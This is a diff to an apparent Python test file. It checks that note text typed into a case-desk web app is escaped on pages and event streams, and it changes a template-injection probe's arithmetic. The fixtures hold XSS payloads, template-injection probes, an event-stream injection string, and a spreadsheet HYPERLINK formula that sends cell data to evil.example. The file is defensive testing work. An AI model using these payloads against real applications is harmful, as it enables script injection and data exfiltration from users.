@@ -24,7 +24,7 @@ _FORMULA = '=HYPERLINK("http://evil.example?"&A1,"見て")'
 _DANGEROUS = re.compile(r"^[=+\-@\t\r＝＋－＠]")
 _MARKUP = (
     "<script>alert(1)</script>", "<img src=//evil.example/x onerror=alert(1)>", "[押して](javascript:alert(1))", "![](http://evil.example/p.png)",
-    "{{ 7*7 }}${7*7}<%= 7*7 %>", "</textarea><form action=//evil.example>", '" autofocus onfocus=alert(1) x="',
+    "{{ 7919*7907 }}${7919*7907}<%= 7919*7907 %>", "</textarea><form action=//evil.example>", '" autofocus onfocus=alert(1) x="',
     "\r\nevent: signed-out\r\ndata: x\r\n\r\n",
 )  # fmt: skip
 
@@ -73,8 +73,8 @@ async def test_words_that_look_like_a_page_are_only_words_on_pages_and_in_stream
     await sato.posts(f"/desk/cases/{code}/note", text=said)
     for path in ("/desk", f"/desk/cases/{code}", tab(code, "sheet"), tab(code, "referrals"), tab(code, "forms/plan"), "/desk/tasks", "/desk/duty"):
         page = await sato.opens(path)
-        for wrong in ("<script>alert", "<img src=//", "<form action=//", 'onfocus=alert(1) x=""', 'href="javascript:', "49"):
-            assert wrong not in page or (wrong == "49" and "7*7" not in said), (path, wrong)
+        for wrong in ("<script>alert", "<img src=//", "<form action=//", 'onfocus=alert(1) x=""', 'href="javascript:', "62615533"):
+            assert wrong not in page, (path, wrong)
     async with listening(sato, f"/desk/cases/{code}/stream?after=0") as ear:
         await ear.hears("lines")
         await ear.hears("beat")
